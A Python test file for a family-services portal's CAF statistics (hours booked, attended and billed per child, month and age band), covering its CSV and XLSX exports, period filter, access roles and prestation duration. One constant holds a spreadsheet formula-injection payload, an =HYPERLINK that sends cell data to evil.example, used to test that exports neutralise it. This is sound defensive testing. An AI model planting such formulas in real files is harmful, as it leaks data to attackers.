"""The CAF's statistics (planning.sdi.statistiques): hours booked,
attended and billed per child, month, activity and age band, children per
day, on a constructed case; the exports (formula injection, numbers); the
period filter; who may read them; a prestation's duration."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from substanced.util import get_oid

from portail_famille.demandes.cycle import signaler_modification
from portail_famille.demo import COMPTES, MARTIN
from portail_famille.facturation import service
from portail_famille.inscriptions import inscrire
from portail_famille.planning import cells

from ..conftest import login, with_root
from .test_effectifs import COURANTE, _enfant, agent_app, rows

STATS = "/manage/structures/@@statistiques"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
MOIS_FR = ("janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août")
MOIS_FR += ("septembre", "octobre", "novembre", "décembre")


def _alsh(root):
    return root["structures"]["accueil-de-loisirs-alsh"]["mercredi-apres-midi"]


def construire(app, prenom=None):
    """A month of "Mercredi après-midi" (4,5 h a day) for LUCAS, who turns
    6 on its 6th, and CHLOE (8): {name: day}, the month's first day."""

    def change(root, registry):
        prestation = _alsh(root)
        prestation.duree = Decimal("4.5")
        oid = get_oid(prestation)
        annee = root["calendrier"][COURANTE]
        mois = (annee.debut.replace(day=1) + datetime.timedelta(days=40)).replace(day=1)
        jours = {
            n: mois + datetime.timedelta(days=k)
            for n, k in zip("1234", (2, 9, 12, 16), strict=True)
        }
        fin = mois + datetime.timedelta(days=27)
        lucas = _enfant(root)
        chloe = _enfant(root, MARTIN["numero"])
        lucas.date_naissance = (mois + datetime.timedelta(days=5)).replace(year=mois.year - 6)
        chloe.date_naissance = mois.replace(year=mois.year - 8)
        if prenom:
            chloe.prenom = prenom
        for enfant in (lucas, chloe):  # what the record's forms send
            signaler_modification(registry, enfant)
        for enfant in (lucas, chloe):
            if not any(i.prestation == oid for i in enfant.inscriptions.values()):
                inscrire(enfant, oid, COURANTE, annee.debut)
            tree = cells.cellules_modifiables(enfant)
            for key in list(tree.keys(min=(oid, mois), max=(oid, fin + datetime.timedelta(9)))):
                cells.set_cell(enfant, oid, key[1], None)
        for enfant, jour, etat in (
            (lucas, "1", cells.RESERVE),
            (lucas, "2", cells.PRESENT_RESERVE),
            (lucas, "3", cells.ABSENT_EXCUSE),
            (lucas, "4", cells.ABSENT_FACTURE),
            (chloe, "1", cells.PRESENT),
            (chloe, "2", cells.RESERVE),
        ):
            cells.set_cell(enfant, oid, jours[jour], etat, prestation=prestation)
        service.marquer_facturees(lucas, oid, [jours["4"]], "AL-900")
        service.marquer_facturees(chloe, oid, [jours["2"]], "AL-901")
        return jours, mois

    return with_root(app.app, change)


def _mois(mois):
    return "%s %d" % (MOIS_FR[mois.month - 1], mois.year)


def _alsh_rows(lignes, colonne=2):
    return [ligne for ligne in lignes if ligne[colonne] == "Mercredi après-midi"]


def test_caf_figures_of_a_constructed_month(app):
    agent = agent_app(app)
    jours, mois = construire(app)
    query = {"du": mois.strftime("%Y-%m"), "au": mois.strftime("%Y-%m")}
    page = agent.get(STATS, query)
    assert _mois(mois) in page.html.select_one("h3").get_text()
    m, activite = _mois(mois), ["Accueil de Loisirs ALSH", "Mercredi après-midi"]
    # Month, structure, activity, band, children, booked, attended, billed.
    assert _alsh_rows(rows(page, "table.synthese")) == [
        [m, *activite, "Moins de 6 ans", "1", "4,5", "0", "0"],
        [m, *activite, "6 ans et plus", "2", "13,5", "9", "9"],
    ]
    lignes = _alsh_rows(rows(page, "table.enfants"))
    assert [ligne[3:5] + ligne[8:] for ligne in lignes] == [
        ["Moins de 6 ans", "DUPONT", "1", "4,5", "0", "0"],
        ["6 ans et plus", "DUPONT", "2", "9", "4,5", "4,5"],
        ["6 ans et plus", "MARTIN", "2", "4,5", "4,5", "4,5"],
    ]
    courte = {n: d.strftime("%d/%m/%Y") for n, d in jours.items()}
    assert _alsh_rows(rows(page, "table.jours")) == [
        [courte["1"], *activite, "1", "1"],
        [courte["2"], *activite, "2", "1"],
        [courte["4"], *activite, "1", "0"],
    ]

    response = agent.get(STATS + "-csv", {**query, "tableau": "synthese"})
    assert response.content_type == "text/csv"
    lignes = list(csv.reader(io.StringIO(response.body.decode("utf-8-sig")), delimiter=";"))
    assert lignes[0] == [
        "Mois",
        "Structure",
        "Activité",
        "Tranche d'âge",
        "Enfants",
        "Heures réservées",
        "Heures réalisées",
        "Heures facturées",
    ]
    assert _alsh_rows(lignes)[1] == [m, *activite, "6 ans et plus", "2", "13,5", "9", "9"]

    response = agent.get(STATS + "-xlsx", query)
    classeur = openpyxl.load_workbook(io.BytesIO(response.body))
    assert classeur.sheetnames == ["Synthèse", "Par enfant", "Enfants par jour"]
    synthese = [[c.value for c in r] for r in classeur["Synthèse"].iter_rows(min_row=2)]
    assert _alsh_rows(synthese)[1][4:] == [2, 13.5, 9, 9]


def test_exports_write_a_hostile_name_as_text(app):
    agent = agent_app(app)
    _jours, mois = construire(app, prenom=HOSTILE)
    query = {"du": mois.strftime("%Y-%m"), "au": mois.strftime("%Y-%m")}
    response = agent.get(STATS + "-csv", {**query, "tableau": "enfants"})
    lignes = _alsh_rows(
        list(csv.reader(io.StringIO(response.body.decode("utf-8-sig")), delimiter=";"))
    )
    assert "'" + HOSTILE in [ligne[5] for ligne in lignes]
    response = agent.get(STATS + "-xlsx", query)
    feuille = openpyxl.load_workbook(io.BytesIO(response.body))["Par enfant"]
    cellules = [r[5] for r in feuille.iter_rows(min_row=2) if r[2].value == "Mercredi après-midi"]
    hostile = [c for c in cellules if c.value == HOSTILE]
    assert hostile and all(c.data_type == "s" for c in hostile)


def test_period_defaults_to_this_month_and_refuses_bad_ones(shared, agent):
    from portail_famille import dates

    page = agent.get(STATS)
    today = dates.today()
    assert page.html.select_one("#du")["value"] == today.strftime("%Y-%m")
    assert _mois(today) in page.html.select_one("h3").get_text()
    for du, au in (("2026-13", "2026-12"), ("2026-05", "2026-01"), ("x", "")):
        page = agent.get(STATS, {"du": du, "au": au})
        assert "Période invalide" in page.html.select_one("#periode-erreur").get_text()
    page = agent.get(STATS, {"du": "2025-01", "au": "2026-03"})
    assert "Période trop longue" in page.html.select_one("#periode-erreur").get_text()


def test_regisseur_reads_the_statistics(app):
    _jours, mois = construire(app)
    login(app, "regisseur", COMPTES["regisseur"][0])
    query = {"du": mois.strftime("%Y-%m"), "au": mois.strftime("%Y-%m")}
    page = app.get(STATS, query)
    assert _alsh_rows(rows(page, "table.synthese"))
    assert app.get(STATS + "-xlsx", query).body.startswith(b"PK")


@pytest.mark.parametrize("role", ["dupont", "martin", "editeur", "anonymous"])
def test_others_get_no_statistics(request, shared, role):
    client = request.getfixturevalue(role)
    for suffix in ("", "-csv", "-xlsx"):
        response = client.get(STATS + suffix, expect_errors=True)
        assert response.status_int in (302, 403, 404), (role, suffix, response.status)
        assert "DUPONT" not in response.text
        assert not response.body.startswith(b"PK")


def _duree(app):
    return with_root(app.app, lambda root, r: _alsh(root).duree)


def test_agent_sets_a_prestation_duration(app):
    agent = agent_app(app)
    url = "/manage/structures/accueil-de-loisirs-alsh/mercredi-apres-midi/@@properties"
    form = agent.get(url).forms["deform"]
    form["duree"] = "douze"
    page = form.submit("save")
    assert "Durée invalide" in page.text
    assert _duree(app) is None
    form = page.forms["deform"]
    form["duree"] = "3,5"
    form.submit("save")
    assert _duree(app) == Decimal("3.5")
